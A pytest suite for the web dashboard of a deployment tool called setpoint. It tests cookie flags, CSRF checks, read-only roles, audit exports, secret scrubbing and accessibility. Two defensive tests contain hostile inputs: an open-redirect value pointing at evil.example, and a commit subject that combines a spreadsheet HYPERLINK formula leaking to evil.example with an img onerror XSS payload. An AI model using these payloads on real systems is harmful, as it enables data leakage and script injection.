"""The web dashboard over real HTTP (issue 20): login turns a token into a session cookie with the
right flags, every state-changing form needs the session's CSRF token, read-only tokens see no
buttons and are refused anyway, actions go through the API's audited code path with the caller,
the event stream announces changes, the audit window and its exports, and no secret on any page."""

from __future__ import annotations

import csv
import io
import re
import shutil
import ssl
import subprocess
import threading
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from opshelpers import CANARY, CanaryPlugin, FakeLoops, serving

from setpoint.errors import TemporaryError
from setpoint.server.dashboard.session import LIFETIME
from setpoint.testing import FakePlugin, GitRepo, make_engine, write_config

STATUS_TOKEN = "status-tok-0123456789abcdef"
ADMIN_TOKEN = "admin-tok-fedcba9876543210"
SECRETS = (CANARY, STATUS_TOKEN, ADMIN_TOKEN)


def item(kind: str, name: str, **fields: Any) -> dict[str, Any]:
    return {"kind": kind, "name": name, **fields}


@pytest.fixture
def board(tmp_path: Path, git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> Any:
    (tmp_path / "status.token").write_text(STATUS_TOKEN + "\n")
    monkeypatch.setenv("TEST_ADMIN_TOKEN", ADMIN_TOKEN)
    git_repo.commit({"app/web.yaml": "CANARY-ENC\n" + yaml.safe_dump([item("Deployment", "web", config=CANARY)]),
                     "app/api.yaml": yaml.safe_dump([item("Deployment", "api", replicas=1, motd="a\nb\nc\n")]),
                     "db/db.yaml": yaml.safe_dump([item("StatefulSet", "db")])}, "v1")
    config = write_config(tmp_path, git_repo.path, [
        {"name": "db", "kind": "fake", "path": "db"},
        {"name": "app", "kind": "fake", "path": "app", "prune": True, "hold_deletions": True, "self_heal": False,
         "depends_on": ["db"]}],
        server={"listen": "127.0.0.1:0", "status_tokens": [{"name": "grafana", "file": "status.token"}],
                "admin_tokens": [{"name": "alice", "env": "TEST_ADMIN_TOKEN"}]})
    plugin = FakePlugin()
    engine = make_engine(config, plugin, CanaryPlugin())
    loops = FakeLoops()
    loops.first_pass_done.set()
    engine.reconcile("db")
    engine.reconcile("app")
    with serving(engine, loops) as base:
        yield base, engine, loops, plugin, git_repo
    engine.close()


def hold_a_deletion(engine: Any, repo: GitRepo, path: str = "app/api.yaml") -> str:
    """Commit a deletion; the app target (hold_deletions) holds it for approval."""
    repo.commit({path: None}, f"drop {path}")
    engine.reconcile("db")  # app waits for its dependency to be synced at the new head
    held = engine.reconcile("app").held_plan_id
    assert held
    return str(held)


def login(base: str, token: str) -> httpx.Client:
    client = httpx.Client(base_url=base, follow_redirects=False)
    response = client.post("/ui/login", data={"token": token, "next": "/ui/"})
    assert response.status_code == 303 and response.headers["location"] == "/ui/", response.text
    return client


def csrf_of(html: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', html)
    assert match, html
    return match.group(1)


def test_login_sets_a_strict_httponly_cookie_and_pages_need_it(board: Any) -> None:
    base, engine, *_ = board
    anonymous = httpx.get(base + "/ui/targets/app", follow_redirects=False)
    assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/ui/login?next=")
    assert httpx.get(base + "/ui/events").status_code == 401
    assert httpx.get(base + "/ui/audit.json").status_code == 303
    wrong = httpx.post(base + "/ui/login", data={"token": "not-a-token-0000000000"})
    assert wrong.status_code == 401 and "set-cookie" not in wrong.headers
    # an open redirect after login is refused: only /ui/ paths
    client = httpx.Client(base_url=base)
    hostile = client.post("/ui/login", data={"token": STATUS_TOKEN, "next": "//evil.example/ui/"})
    assert hostile.headers["location"] == "/ui/"

    response = httpx.post(base + "/ui/login", data={"token": ADMIN_TOKEN})
    cookie = response.headers["set-cookie"]
    flags = [part.strip().lower() for part in cookie.split(";")]
    assert "httponly" in flags and "samesite=strict" in flags and "path=/" in flags
    assert "secure" not in flags, "plain HTTP: a Secure cookie would never come back"
    assert f"max-age={int(LIFETIME)}" in flags or any(f.startswith("max-age=4319") for f in flags)
    assert ADMIN_TOKEN not in cookie
    headers = response.headers
    assert "script-src 'self'" in headers["content-security-policy"] and headers["cache-control"] == "no-store"
    logins = [e for e in engine.store.audit_entries(actions=("api",)) if e.details["call"] == "login"]
    assert [(e.result, e.details.get("reason")) for e in logins if e.result != "ok"] == [("failed", "unknown token")]
    logins = [e for e in logins if e.result == "ok"]
    assert [(e.actor, e.details["role"], e.details["via"]) for e in logins] == [
        ("api:grafana", "status", "dashboard"), ("api:alice", "admin", "dashboard")]


def test_the_cookie_is_secure_under_tls(tmp_path: Path, git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    if shutil.which("openssl") is None:
        pytest.skip("needs openssl to make a test certificate")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1",
                    "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(tmp_path / "key.pem"),
                    "-out", str(tmp_path / "cert.pem")], check=True, capture_output=True)
    monkeypatch.setenv("TEST_ADMIN_TOKEN", ADMIN_TOKEN)
    git_repo.commit({"app/a.yaml": yaml.safe_dump([item("Deployment", "a")])}, "v1")
    config = write_config(tmp_path, git_repo.path, [{"name": "app", "kind": "fake", "path": "app"}],
                          server={"listen": "127.0.0.1:0", "tls": {"cert_file": "cert.pem", "key_file": "key.pem"},
                                  "admin_tokens": [{"name": "alice", "env": "TEST_ADMIN_TOKEN"}]})
    engine = make_engine(config, FakePlugin())
    with serving(engine, None) as base:
        url = base.replace("http://", "https://")
        response = httpx.post(url + "/ui/login", data={"token": ADMIN_TOKEN}, verify=ssl.create_default_context(cafile=tmp_path / "cert.pem"))
        flags = [part.strip().lower() for part in response.headers["set-cookie"].split(";")]
        assert "secure" in flags and "httponly" in flags and "samesite=strict" in flags
    engine.close()


def test_state_changing_forms_need_the_csrf_token(board: Any) -> None:
    base, engine, loops, *_ = board
    client = login(base, ADMIN_TOKEN)
    page = client.get("/ui/targets/app").text
    token = csrf_of(page)
    for call, data in (("sync", {}), ("pause", {"reason": "x"}), ("resume", {}), ("approve", {"plan_id": "p"})):
        missing = client.post(f"/ui/targets/app/{call}", data=data)
        assert missing.status_code == 403 and "CSRF" in missing.text, call
        forged = client.post(f"/ui/targets/app/{call}", data={**data, "csrf": token[:-1] + "x"})
        assert forged.status_code == 403, call
    other = login(base, ADMIN_TOKEN)  # another session's token is no good either
    assert other.post("/ui/targets/app/sync", data={"csrf": token}).status_code == 403
    assert client.post("/ui/logout", data={}).status_code == 403
    assert loops.woken_targets == [] and engine.store.get_pause("app") is None
    assert [e.details["call"] for e in engine.store.audit_entries(actions=("api",))] == ["login", "login"]
    # and without a session at all
    assert httpx.post(base + "/ui/targets/app/sync", data={"csrf": token}).status_code == 401


def test_read_only_tokens_see_no_buttons_and_are_refused(board: Any, git_repo: GitRepo) -> None:
    base, engine, loops, *_ = board
    held = hold_a_deletion(engine, git_repo)
    client = login(base, STATUS_TOKEN)
    pages = [client.get(p).text for p in ("/ui/", "/ui/targets/app", f"/ui/targets/app/plans/{held}", "/ui/audit")]
    for html in pages:
        assert "read-only" in html
        for button in ('id="sync-now"', 'id="pause"', 'id="resume"', 'id="approve"'):
            assert button not in html
    token = csrf_of(pages[0])  # the logout form's
    for call, data in (("sync", {}), ("pause", {"reason": "x"}), ("approve", {"plan_id": held})):
        refused = client.post(f"/ui/targets/app/{call}", data={**data, "csrf": token})
        assert refused.status_code == 403 and "read-only" in refused.text, call
    assert loops.woken_targets == [] and engine.store.get_pause("app") is None
    assert engine.store.held_plans("app", ("pending",))[0].plan_id == held
    # an admin sees them all
    admin = login(base, ADMIN_TOKEN)
    assert 'id="sync-now"' in admin.get("/ui/targets/app").text
    assert 'id="approve"' in admin.get(f"/ui/targets/app/plans/{held}").text


def test_actions_are_audited_with_the_caller_through_the_api_code_path(board: Any, git_repo: GitRepo) -> None:
    base, engine, loops, *_ = board
    client = login(base, ADMIN_TOKEN)
    token = csrf_of(client.get("/ui/targets/app").text)
    done = client.post("/ui/targets/app/sync", data={"csrf": token})
    assert done.status_code == 303 and done.headers["location"] == "/ui/targets/app?done=sync"
    assert loops.woken_targets == [("app", "api:alice")]
    refused = client.post("/ui/targets/app/pause", data={"csrf": token, "reason": " "})
    assert "error=" in refused.headers["location"]
    assert "reason" in client.get(refused.headers["location"]).text
    client.post("/ui/targets/app/pause", data={"csrf": token, "reason": "incident <42>", "for": "2h"})
    pause = engine.store.get_pause("app")
    assert pause is not None and pause.paused_by == "api:alice" and pause.until is not None
    page = client.get("/ui/targets/app").text
    assert "incident &lt;42&gt;" in page and 'id="resume"' in page and "<42>" not in page
    client.post("/ui/targets/app/resume", data={"csrf": token})
    assert engine.store.get_pause("app") is None

    held = hold_a_deletion(engine, git_repo)
    plan_page = client.get(f"/ui/targets/app/plans/{held}").text
    assert "delete" in plan_page and "Deployment/api" in plan_page.replace("&#34;", "")
    client.post("/ui/targets/app/approve", data={"csrf": token, "plan_id": held})
    assert engine.store.held_plans("app", ("approved",))[0].decided_by == "api:alice"

    entries = [e for e in engine.store.audit_entries(actions=("api",)) if e.details["call"] != "login"]
    assert [(e.details["call"], e.result, e.actor, e.details["via"]) for e in entries] == [
        ("sync", "ok", "api:alice", "dashboard"), ("pause", "refused", "api:alice", "dashboard"),
        ("pause", "ok", "api:alice", "dashboard"), ("resume", "ok", "api:alice", "dashboard"),
        ("approve", "ok", "api:alice", "dashboard")]
    assert {e.action: e.actor for e in engine.store.audit_entries(actions=("pause", "resume", "approve"))} == {
        "pause": "api:alice", "resume": "api:alice", "approve": "api:alice"}


def test_overview_filters_and_target_page(board: Any) -> None:
    base, engine, _loops, plugin, _repo = board
    plugin.cluster("app").manual_change("Deployment/api", motd="a\nB\nc\n")
    engine.reconcile("app")
    client = login(base, STATUS_TOKEN)
    response = client.get("/ui/")
    assert float(response.headers["server-timing"].split("render;dur=")[1]) > 0  # what the benchmark reads
    overview = response.text
    assert 'id="t-app"' in overview and 'id="t-db"' in overview
    # the last apply: when, and which revision (issue 20 item 1)
    applied = engine.store.status("db").last_applied_revision
    assert applied and re.search(r'id="t-db">.*?<td class="applied">\d+s ago <code>' + applied[:8] + "</code></td>",
                                 overview, re.S), overview
    only_drift = client.get("/ui/?status=OutOfSync").text
    assert 'id="t-app"' in only_drift and 'id="t-db"' not in only_drift
    assert 'id="t-db"' in client.get("/ui/?q=D&kind=fake").text
    assert 'id="t-' not in client.get("/ui/?kind=nope").text
    page = client.get("/ui/targets/app").text
    assert 'class="del">-B' in page or 'class="add">+b' in page, "a unified per-field diff of the drift"
    assert "Upstream (waits for): <a href=\"/ui/targets/db\">db</a>" in page
    assert "Downstream (waiting for it): <a href=\"/ui/targets/app\">app</a>" in client.get("/ui/targets/db").text
    assert "v1" in page and "drift-detected" in page
    # the resources: the drifted object is OutOfSync, the other Synced, both Healthy as the driver says
    assert re.search(r"<code>Deployment/api</code></td><td>Deployment</td><td class=\"s-OutOfSync\">OutOfSync</td>"
                     r"<td class=\"h-Healthy\">Healthy</td>", page), page
    assert client.get("/ui/targets/nope").status_code == 404


def test_a_held_deletion_shows_the_live_object_it_would_remove(board: Any) -> None:
    """Issue 20 item 4: approve after seeing the full diff; for a deletion that is the live object."""
    base, engine, _loops, plugin, repo = board
    plugin.cluster("app").manual_change("Deployment/api", replicas=4)  # live differs from Git: shown as live
    held = hold_a_deletion(engine, repo)
    (plan,) = engine.store.held_plans("app", ("pending",))
    (change,) = [c for c in plan.changes if c["action"] == "delete"]
    assert change["live"]["body"]["replicas"] == 4
    page = login(base, ADMIN_TOKEN).get(f"/ui/targets/app/plans/{held}").text
    assert "Deleted: the live object as observed" in page
    assert '<span class="del">- replicas: 4</span>' in page, page
    assert 'id="approve"' in page


def test_object_health_is_the_drivers_where_it_reports_it_else_labelled_estimated(board: Any) -> None:
    """Issue 20 item 5: per-object health from the driver (Health.resources); where a driver gives
    none, the core's estimate is labelled as such."""
    from setpoint.api import HealthStatus

    base, engine, _loops, plugin, _repo = board
    plugin.cluster("app").health["Deployment/api"] = HealthStatus.DEGRADED
    engine.reconcile("app")
    client = login(base, STATUS_TOKEN)
    page = client.get("/ui/targets/app").text
    row = r"<code>{}</code></td><td>Deployment</td><td class=\"s-\w+\">\w+</td><td class=\"h-{}\">{}</td>"
    assert re.search(row.format("Deployment/api", "Degraded", "Degraded"), page), page
    assert re.search(row.format("Deployment/web", "Healthy", "Healthy"), page), "the driver says web is fine"
    assert "(estimated)" not in page
    # a driver that reports no per-object health: the core's estimate, labelled
    db = plugin.cluster("db")
    db.reports_object_health = False
    db.health["StatefulSet/db"] = HealthStatus.PROGRESSING
    engine.reconcile("db")
    page = client.get("/ui/targets/db").text
    assert re.search(r"<code>StatefulSet/db</code>.*?<td class=\"h-[^\"]+\">[^<]*<span class=\"estimated\"[^>]*>"
                     r"\(estimated\)</span></td>", page, re.S), page


def test_the_event_stream_announces_a_change(board: Any) -> None:
    base, engine, _loops, plugin, _repo = board
    client = login(base, STATUS_TOKEN)
    seen: list[str] = []

    def listen() -> None:
        with client.stream("GET", "/ui/events", timeout=10) as response:
            assert response.headers["content-type"].startswith("text/event-stream")
            for line in response.iter_lines():
                seen.append(line)
                if line.startswith("event: change"):
                    return

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    import time
    time.sleep(0.8)
    plugin.cluster("app").manual_change("Deployment/api", replicas=5)
    engine.reconcile("app")
    thread.join(5)
    assert "event: change" in seen, seen


def test_audit_window_grouping_permalink_and_exports(board: Any) -> None:
    base, engine, *_ = board
    client = login(base, STATUS_TOKEN)
    page = client.get("/ui/audit?window=today").text
    assert "Permalink" in page and "<code>" in page and ">app</a>" in page and ">db</a>" in page
    permalink = re.search(r'id="permalink" href="([^"]+)"', page).group(1).replace("&amp;", "&")  # type: ignore[union-attr]
    assert "since=" in permalink and "until=" in permalink
    assert client.get(permalink).text.count('class="group"') == page.count('class="group"')
    bad = client.get("/ui/audit?window=the+other+day")
    assert bad.status_code == 400 and "last Thursday 14:00-17:00" in bad.text
    query = permalink.split("?", 1)[1]
    as_json = client.get("/ui/audit.json?" + query)
    assert as_json.headers["content-disposition"].endswith('"setpoint-audit.json"')
    rows = as_json.json()
    assert {r["target"] for r in rows} >= {"app", "db"} and all("time_iso" in r for r in rows)
    as_csv = client.get("/ui/audit.csv?" + query + "&target=db")
    lines = as_csv.text.strip().splitlines()
    assert lines[0].startswith("time,target,kind,action") and len(lines) > 1
    assert all(",db," in line for line in lines[1:])
    # an empty window in the past
    assert "Nothing happened" in client.get("/ui/audit?window=2001-01-01+09:00-10:00").text


def test_a_hostile_commit_subject_is_text_on_every_page_and_in_the_export(board: Any, git_repo: GitRepo) -> None:
    """Whoever can push writes commit subjects: markup in one stays text on the pages, and a subject
    that a spreadsheet would run as a formula is exported with a leading apostrophe."""
    base, engine, *_ = board
    subject = '=HYPERLINK("http://evil.example/?leak","open") <img src=x onerror=alert(1)>'
    git_repo.commit({"db/db.yaml": yaml.safe_dump([item("StatefulSet", "db", replicas=3)])}, subject)
    engine.reconcile("db")
    client = login(base, ADMIN_TOKEN)
    for path in ("/ui/", "/ui/?fragment=1", "/ui/targets/db", "/ui/audit?window=today"):
        body = client.get(path).text
        assert "<img src=x" not in body, path
        assert "&lt;img src=x onerror=alert(1)&gt;" in body, path
    today = datetime.now().strftime("%Y-%m-%d")
    export = client.get(f"/ui/audit.csv?window={today}&target=db").text
    rows = list(csv.DictReader(io.StringIO(export)))
    subjects = {row["subject"] for row in rows if row["subject"]}
    assert "'" + subject in subjects, subjects
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values() if value)


def test_no_secret_on_any_page_or_export(board: Any, git_repo: GitRepo) -> None:
    """The canary test, extended to the dashboard: the decrypted value drifts, is held in a plan,
    errors mention it; no page, fragment, export or event carries it (nor any token)."""
    base, engine, _loops, plugin, _repo = board
    plugin.cluster("app").manual_change("Deployment/web", config=CANARY + "-changed-live")
    plugin.cluster("app").fail_next("observe", TemporaryError(f"login failed for {CANARY}"))
    engine.reconcile("app")
    engine.reconcile("app")
    held = hold_a_deletion(engine, git_repo, "app/web.yaml")  # the held deletion of the object with the secret
    # defence in depth: a secret that reached the store anyway (pasted into a pause reason, or written
    # by a careless plugin into an audit note) is scrubbed from every page and export
    engine.pause("db", f"rotating {CANARY}", "api:alice", None)
    engine.store.audit("error", target="db", details={"note": f"debug {CANARY}", CANARY: "as a key"})
    client = login(base, ADMIN_TOKEN)
    today = datetime.now().strftime("%Y-%m-%d")
    paths = ["/ui/", "/ui/?fragment=1", "/ui/targets/app", "/ui/targets/app?fragment=1", "/ui/targets/db",
             f"/ui/targets/app/plans/{held}", "/ui/audit?window=today", f"/ui/audit.csv?window={today}",
             "/ui/audit.json?window=today", "/ui/static/dashboard.js"]
    bodies = []
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        bodies.append(response.text + str(response.headers))
    paths.append("/ui/login (anonymous)")
    bodies.append(httpx.get(base + "/ui/login").text)
    assert "secret: fingerprints" in client.get("/ui/targets/app").text, "the drifted secret shows as fingerprints"
    plan_page = client.get(f"/ui/targets/app/plans/{held}").text
    assert re.search(r"- config: secret sha256:[0-9a-f]{8,}", plan_page), "the live secret that would go, as a fingerprint"
    for path, body in zip(paths, bodies, strict=True):
        for value in (*SECRETS, CANARY + "-changed-live"):
            assert value not in body, (path, value)
    assert "rotating &lt;secret&gt;" in bodies[0] or "rotating <secret>" in bodies[0]


# --------------------------------------------------------------------------- accessibility basics


def _luminance(hex_colour: str) -> float:
    channels = [int(hex_colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(a: str, b: str) -> float:
    hi, lo = sorted((_luminance(a), _luminance(b)), reverse=True)
    return (hi + 0.05) / (lo + 0.05)


def test_text_colours_meet_wcag_aa_contrast() -> None:
    from setpoint.server.dashboard.pages import HERE

    css = (HERE / "static" / "dashboard.css").read_text()
    colours = dict(re.findall(r"--(\w+):\s*(#[0-9a-fA-F]{6})", css))
    for text in ("fg", "muted", "ok", "warn", "bad", "link"):
        for background in ("bg", "alt"):
            ratio = contrast(colours[text], colours[background])
            assert ratio >= 4.5, f"--{text} on --{background}: {ratio:.2f}:1 is below WCAG AA (4.5:1)"
    assert contrast("#ffffff", colours["link"]) >= 4.5, "button text on the button colour"
    assert ":focus-visible" in css and "outline" in css, "keyboard focus stays visible"
    assert "@import" not in css and "url(" not in css, "no external fonts or images (air-gapped sites)"


def test_every_form_field_has_a_label_and_pages_load_nothing_external(board: Any, git_repo: GitRepo) -> None:
    from html.parser import HTMLParser

    base, engine, *_ = board
    held = hold_a_deletion(engine, git_repo)

    class Fields(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.inputs: list[dict[str, str | None]] = []
            self.labels: set[str] = set()
            self.sources: list[str] = []
            self.lang = ""

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            a = dict(attrs)
            if tag in ("input", "select", "textarea") and a.get("type") != "hidden":
                self.inputs.append(a)
            if tag == "label" and a.get("for"):
                self.labels.add(str(a["for"]))
            if tag in ("script", "link", "img") and (a.get("src") or a.get("href")):
                self.sources.append(str(a.get("src") or a.get("href")))
            if tag == "html":
                self.lang = str(a.get("lang") or "")

    anonymous = Fields()
    anonymous.feed(httpx.get(base + "/ui/login").text)
    client = login(base, ADMIN_TOKEN)
    parsers = [anonymous]
    for path in ("/ui/", "/ui/targets/app", f"/ui/targets/app/plans/{held}", "/ui/audit"):
        parser = Fields()
        parser.feed(client.get(path).text)
        parsers.append(parser)
    for parser in parsers:
        assert parser.lang == "en"
        for field in parser.inputs:
            assert field.get("id") in parser.labels, f"no <label for> for {field}"
        assert all(src.startswith("/ui/static/") for src in parser.sources), parser.sources
    assert sum(len(p.inputs) for p in parsers) >= 8, "the login, filter, pause and audit fields were checked"
